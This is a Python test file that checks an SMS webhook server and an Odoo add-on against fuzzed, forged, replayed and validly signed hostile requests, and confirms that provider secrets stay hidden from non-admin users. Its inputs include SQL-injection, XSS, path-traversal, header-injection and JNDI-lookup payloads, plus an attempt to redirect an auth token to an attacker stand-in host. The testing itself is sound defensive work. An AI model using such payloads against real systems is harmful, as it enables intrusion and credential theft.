"""Security suite of the webhook server: fuzzed requests never make it fail, forged or replayed signatures are
refused, and provider secrets stay out of reach of non-admin Odoo users."""

from __future__ import annotations

import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
import requests
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import create_engine

from live_server import LiveServer
from odoo_server import OdooServer
from sync_service.core.signatures import plivo_v3_signature, twilio_signature, vonage_sig
from sync_service.shell.config import load_settings
from sync_service.shell.odoo_client import OdooCallError, OdooClient
from sync_service.store import Store
from sync_service.webhooks import SigningConfig, create_app
from sync_service.webhooks.app import INBOUND_FIELDS, STATUS_FIELDS

PUBLIC = "https://sms.example.com"
TWILIO_TOKEN = "twilio-token-for-fuzzing"
VONAGE_SECRET = "vonage-secret-for-fuzzing"
PLIVO_TOKEN = "plivo-token-for-fuzzing"
SIGNING = SigningConfig(
    twilio_auth_token=TWILIO_TOKEN,
    plivo_auth_token=PLIVO_TOKEN,
    vonage_signature_secret=VONAGE_SECRET,
    vonage_signature_method="sha256",
)


@pytest.fixture(scope="module")
def webhook_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LiveServer, Store]]:
    store = Store.from_url(f"sqlite:///{tmp_path_factory.mktemp('sec') / 'inbox.db'}")
    server = LiveServer(create_app(store, SIGNING, PUBLIC)).start()
    yield server, store
    server.request_stop()
    server.join()
    store.close()


text = st.text(max_size=40)
header_text = st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=1, max_size=40)
params = st.dictionaries(
    st.sampled_from(
        [
            "MessageSid",
            "MessageStatus",
            "From",
            "To",
            "Body",
            "sig",
            "timestamp",
            "messageId",
            "status",
            "msisdn",
            "text",
            "MessageUUID",
            "Status",
        ]
    )
    | text,
    text,
    max_size=8,
)
bodies = st.one_of(
    params.map(lambda p: urlencode(p).encode()),
    st.binary(max_size=300),
    st.text(max_size=200).map(str.encode),
    st.just(b'{"MessageSid": ["a", {"b": 1}], "Body": null}'),
    st.just(b"\xff\xfe" * 50),
)
content_types = st.sampled_from(
    [
        "application/x-www-form-urlencoded",
        "application/json",
        "text/plain",
        "multipart/form-data; boundary=x",
        "",
        "application/x-www-form-urlencoded; charset=latin-1",
    ]
)
paths = st.sampled_from(
    [
        "/webhooks/twilio/status",
        "/webhooks/twilio/inbound",
        "/webhooks/plivo/status",
        "/webhooks/plivo/inbound",
        "/webhooks/vonage/status",
        "/webhooks/vonage/inbound",
        "/webhooks/unknown/status",
        "/webhooks/twilio/other",
        "/webhooks/%2e%2e/status",
    ]
)
signatures = st.dictionaries(
    st.sampled_from(["X-Twilio-Signature", "X-Plivo-Signature-V3", "X-Plivo-Signature-V3-Nonce"]),
    header_text,
    max_size=3,
)


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=paths, body=bodies, content_type=content_types, headers=signatures)
def test_fuzzed_webhooks_never_fail_the_server(
    webhook_server: tuple[LiveServer, Store],
    path: str,
    body: bytes,
    content_type: str,
    headers: dict[str, str],
) -> None:
    server, store = webhook_server
    before = store.backlog()
    safe_headers = {k: v.encode("latin-1", "replace").decode("latin-1") for k, v in headers.items()}
    response = requests.post(
        server.url + path, data=body, timeout=10, headers={"Content-Type": content_type, **safe_headers}
    )
    assert response.status_code < 500, (response.status_code, response.text)
    assert response.status_code in (400, 403, 404, 405, 411, 413, 415, 422), response.status_code
    assert store.backlog() == before, "nothing unsigned is ever stored"


def test_server_still_healthy_after_fuzzing(webhook_server: tuple[LiveServer, Store]) -> None:
    server, _store = webhook_server
    assert requests.get(server.url + "/healthz", timeout=10).status_code == 200


def test_signature_replayed_on_other_params_is_refused(webhook_server: tuple[LiveServer, Store]) -> None:
    server, store = webhook_server
    path = "/webhooks/twilio/status"
    genuine = {"MessageSid": "SMsec1", "MessageStatus": "delivered"}
    signature = twilio_signature(TWILIO_TOKEN, PUBLIC + path, genuine)
    ok = requests.post(server.url + path, data=genuine, headers={"X-Twilio-Signature": signature}, timeout=10)
    assert ok.status_code == 200
    backlog = store.backlog()
    # The same signature on another message, or on another route, is refused.
    for other_path, other in (
        (path, {**genuine, "MessageSid": "SMsec2"}),
        ("/webhooks/twilio/inbound", {**genuine, "From": "+33600000000", "Body": "STOP"}),
    ):
        response = requests.post(
            server.url + other_path, data=other, headers={"X-Twilio-Signature": signature}, timeout=10
        )
        assert response.status_code == 403
    # The identical request replayed is accepted but stored once: it changes nothing.
    again = requests.post(
        server.url + path, data=genuine, headers={"X-Twilio-Signature": signature}, timeout=10
    )
    assert again.status_code == 200
    assert store.backlog() == backlog


def test_an_old_vonage_signature_is_stored_once_and_a_forged_one_refused(
    webhook_server: tuple[LiveServer, Store],
) -> None:
    """No clock window (Vonage retries with the original timestamp after an outage): a replayed genuine
    request is a duplicate of what is stored, harmless; changed contents break the signature."""
    server, store = webhook_server
    backlog = store.backlog()
    old = {
        "msisdn": "33612345678",
        "to": "33700000000",
        "text": "STOP",
        "messageId": "0A00000001",
        "timestamp": str(int(time.time()) - 3600),
    }
    old["sig"] = vonage_sig(old, VONAGE_SECRET, "sha256")
    first = requests.post(server.url + "/webhooks/vonage/inbound", data=old, timeout=10)
    replayed = requests.post(server.url + "/webhooks/vonage/inbound", data=old, timeout=10)
    assert (first.status_code, replayed.status_code) == (200, 200)
    assert replayed.json()["status"] == "duplicate"
    assert store.backlog() == backlog + 1
    forged = {**old, "msisdn": "33699999999"}
    assert requests.post(server.url + "/webhooks/vonage/inbound", data=forged, timeout=10).status_code == 403
    assert store.backlog() == backlog + 1


# --------------------------------------------------------------------------- validly signed, hostile contents
# The fuzzing above never gets past the signature check. Here every request is signed with the key the
# server holds, as the provider would sign it, and its fields are hostile: the server must still never fail,
# store only well-formed events (exactly what was signed), and refuse the others with 400 and the field at
# fault.

HOSTILE = st.sampled_from(
    [
        "", "   ", "\t\n", "\x00", "STOP\x00", "'; DROP TABLE inbox_events; --", "<script>alert(1)</script>",
        "\u202eSTOP", "S\u0338TOP", "../../etc/passwd", "%00", "STOP\r\nX-Injected: 1", "{{7*7}}",
        "${jndi:ldap://example.com/a}", "\N{PILE OF POO}" * 20, "0" * 300, "+33 6 12 34 56 78",
    ]
)
hostile_text = st.one_of(HOSTILE, st.text(st.characters(blacklist_categories=("Cs",)), max_size=60))
SIGNED_ROUTES = [(p, k) for p in ("twilio", "plivo", "vonage") for k in ("status", "inbound")]


def _fields(provider: str, kind: str) -> list[str]:
    f = STATUS_FIELDS[provider] if kind == "status" else INBOUND_FIELDS[provider]  # type: ignore[index]
    return list(vars(f).values())


def _required_fault(provider: str, kind: str, params: dict[str, str]) -> str | None:
    """What the server must answer for these parameters: None (stored), or the missing field's reason."""
    # (field, may be empty, goes into the dedup key: 100 characters at most)
    if kind == "status":
        f = STATUS_FIELDS[provider]  # type: ignore[index]
        required = [(f.message_id, False, True), (f.status, False, True)]
    else:
        g = INBOUND_FIELDS[provider]  # type: ignore[index]
        # an empty SMS is an SMS
        required = [(g.message_id, False, True), (g.from_number, False, False), (g.body, True, False)]
    for name, may_be_empty, key in required:
        value = params.get(name)
        if value is None or (not may_be_empty and not value.strip()):
            return f"missing required field {name!r}"
        if key and len(value.strip()) > 100:
            return f"field {name!r} is longer than 100 characters"
        if key and any(ord(ch) < 32 or ord(ch) == 127 for ch in value.strip()):
            return f"field {name!r} contains control characters"
    return None


@st.composite
def signed_requests(draw: st.DrawFn) -> tuple[str, str, dict[str, str]]:
    provider, kind = draw(st.sampled_from(SIGNED_ROUTES))
    known = st.sampled_from([*_fields(provider, kind), "ErrorCode", "err-code", "client-ref", "key"])
    names = known | st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=20)
    params = draw(st.dictionaries(names, hostile_text, max_size=4))
    for name in _fields(provider, kind):  # the route's own fields, each present three times in four
        if draw(st.integers(0, 3)):
            params[name] = draw(hostile_text)
    params.pop("sig", None)
    params.pop("timestamp", None)
    return provider, kind, params


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def signed_server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[LiveServer, Store]]:
    """The webhook server on each store the service supports (PostgreSQL: a scratch database over the local
    socket; it is where a too-long id or a NUL character would surface as a store error)."""
    admin, database = None, None
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('signed') / 'inbox.db'}"
    else:
        database = f"smsm_fuzz_{uuid.uuid4().hex[:10]}"
        admin = create_engine("postgresql+psycopg2:///postgres", isolation_level="AUTOCOMMIT")
        try:
            with admin.connect() as conn:
                conn.exec_driver_sql(f'CREATE DATABASE "{database}"')
        except Exception as exc:  # no server, no role: the SQLite run still covers the logic
            admin.dispose()
            pytest.skip(f"PostgreSQL not available over the local socket: {exc}")
        url = f"postgresql+psycopg2:///{database}"
    store = Store.from_url(url)
    server = LiveServer(create_app(store, SIGNING, PUBLIC)).start()
    yield server, store
    server.request_stop()
    server.join()
    store.close()
    if admin is not None:
        with admin.connect() as conn:
            conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{database}"')
        admin.dispose()


def _post_signed(server: LiveServer, provider: str, kind: str, params: dict[str, str]) -> requests.Response:
    path = f"/webhooks/{provider}/{kind}"
    headers: dict[str, str] = {}
    if provider == "twilio":
        headers["X-Twilio-Signature"] = twilio_signature(TWILIO_TOKEN, PUBLIC + path, params)
    elif provider == "plivo":
        nonce = "31415926535897932384"
        headers["X-Plivo-Signature-V3-Nonce"] = nonce
        headers["X-Plivo-Signature-V3"] = plivo_v3_signature(PLIVO_TOKEN, PUBLIC + path, nonce, params)
    else:
        params = {**params, "timestamp": str(int(time.time()))}
        params["sig"] = vonage_sig(params, VONAGE_SECRET, "sha256")
    headers["Content-Type"] = "application/x-www-form-urlencoded"  # also for an empty form
    return requests.post(server.url + path, data=urlencode(params).encode(), headers=headers, timeout=10)


seen_keys: set[tuple[int, str, str, str]] = set()  # (store, provider, kind, dedup key) already stored


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(request=signed_requests())
@example(request=("twilio", "inbound", {"MessageSid": "SMempty", "From": "+33612345678", "Body": ""}))
@example(request=("vonage", "status", {"messageId": "0A1", "status": "delivered", "err-code": "\x00"}))
@example(request=("plivo", "status", {"MessageUUID": "\x00", "Status": "delivered"}))
@example(request=("twilio", "status", {"MessageSid": "S" * 300, "MessageStatus": "delivered"}))
def test_signed_hostile_webhooks_are_stored_only_when_well_formed(
    signed_server: tuple[LiveServer, Store], request: tuple[str, str, dict[str, str]]
) -> None:
    server, store = signed_server
    provider, kind, params = request
    response = _post_signed(server, provider, kind, params)
    assert response.status_code < 500, (response.status_code, response.text)
    new_events = store.claim_pending("fuzz", 10, 60)
    store.mark_applied([event.id for event in new_events])
    fault = _required_fault(provider, kind, params)
    if fault is not None:
        assert response.status_code == 400, (response.status_code, response.text, params)
        assert response.json() == {"error": fault}
        assert new_events == [], "a malformed event is never stored"
        return
    assert response.status_code == 200, (response.status_code, response.text, params)
    signed = dict(params)
    if provider == "vonage":  # what was signed: the timestamp and sig the provider adds are part of it
        assert len(new_events) <= 1
    if kind == "status":
        f = STATUS_FIELDS[provider]  # type: ignore[index]
        dedup = f"{params[f.message_id].strip()}:{params[f.status].strip()}"
    else:
        dedup = params[INBOUND_FIELDS[provider].message_id].strip()  # type: ignore[index]
    if (id(store), provider, kind, dedup) in seen_keys:
        assert new_events == [], "the same event signed twice is stored once"
        return
    seen_keys.add((id(store), provider, kind, dedup))
    assert len(new_events) == 1, (params, new_events)
    event = new_events[0]
    assert (event.provider, event.kind, event.dedup_key) == (provider, kind, dedup)
    raw = event.payload["raw"]
    if provider == "vonage":
        assert set(raw) == set(signed) | {"timestamp", "sig"}
        raw = {k: v for k, v in raw.items() if k not in ("timestamp", "sig")}
    assert raw == signed, "exactly what was signed is stored, byte for byte"
    if kind == "status":
        assert event.payload["provider_message_id"] == params[STATUS_FIELDS[provider].message_id].strip()  # type: ignore[index]
    else:
        fields = INBOUND_FIELDS[provider]  # type: ignore[index]
        assert event.payload["from_number"] == params[fields.from_number].strip()
        assert event.payload["body"] == params[fields.body]


def test_server_still_healthy_after_signed_fuzzing(signed_server: tuple[LiveServer, Store]) -> None:
    server, _store = signed_server
    assert requests.get(server.url + "/healthz", timeout=10).status_code == 200


# --------------------------------------------------------------------------- Odoo side, over RPC


@pytest.fixture
def admin(odoo_server: OdooServer) -> OdooClient:
    return OdooClient.connect(
        load_settings(
            odoo_url=odoo_server.url, odoo_db=odoo_server.database, odoo_login="admin", odoo_password="admin"
        )
    )


def test_provider_secrets_are_unreadable_by_non_admin_users(
    odoo_server: OdooServer, admin: OdooClient, tmp_path: Path
) -> None:
    account_id = admin.call(
        "sms.provider.account",
        "create",
        {
            "name": "Twilio FR",
            "provider": "twilio",
            "account_sid": "AC123",
            "auth_token": "very-secret-token",
            "country_prefixes": "33",
        },
    )
    manager_group = admin.call(
        "ir.model.data", "check_object_reference", "sms_marketing_addon", "group_sms_marketing_manager"
    )[1]
    login = f"sms-manager-{int(time.time() * 1000)}"
    admin.call(
        "res.users",
        "create",
        {
            "name": "SMS manager",
            "login": login,
            "password": "manager-pass-1",
            "groups_id": [(4, manager_group)],
        },
    )
    manager = OdooClient.connect(
        load_settings(
            odoo_url=odoo_server.url,
            odoo_db=odoo_server.database,
            odoo_login=login,
            odoo_password="manager-pass-1",
        )
    )
    [row] = manager.call("sms.provider.account", "read", [account_id], ["name", "provider"])
    assert row["name"] == "Twilio FR", "managers see the account..."
    with pytest.raises(OdooCallError):
        manager.call("sms.provider.account", "read", [account_id], ["auth_token"])  # ...not its secret
    with pytest.raises(OdooCallError):
        manager.call("sms.provider.account", "search_read", [("id", "=", account_id)], fields=["auth_token"])
    with pytest.raises(OdooCallError):
        manager.call("sms.marketing.api", "get_provider_accounts")
    secrets = [a["secret"] for a in admin.call("sms.marketing.api", "get_provider_accounts")]
    assert "very-secret-token" in secrets
    # Nor can the manager send the token elsewhere: where an account sends is for system administrators.
    for values in ({"base_url": "https://attacker.example"}, {"account_sid": "AC999"}, {"provider": "vonage"},
                   {"auth_token": "mine"}, {"country_prefixes": "1"}):
        with pytest.raises(OdooCallError, match="Only system administrators"):
            manager.call("sms.provider.account", "write", [account_id], values)
    with pytest.raises(OdooCallError):
        manager.call("sms.provider.account", "create", {"name": "Mine", "base_url": "https://attacker.example"})
    [row] = admin.call("sms.provider.account", "read", [account_id], ["base_url", "account_sid"])
    assert (row["base_url"], row["account_sid"]) == (False, "AC123")
    routed = {a["id"]: a["base_url"] for a in admin.call("sms.marketing.api", "get_provider_accounts")}
    assert routed[account_id] == "https://api.twilio.com"
    # ...and the service's methods are not theirs: no forged keyword, no fabricated proof of consent.
    with pytest.raises(OdooCallError, match="reserved to the sync service"):
        manager.call("sms.marketing.api", "apply_inbound_keyword", "+33612345678", "opt_in", "SM-forged",
                     "START")
    with pytest.raises(OdooCallError):
        admin.call("sms.provider.account", "write", [account_id], {"base_url": "http://attacker.example"})
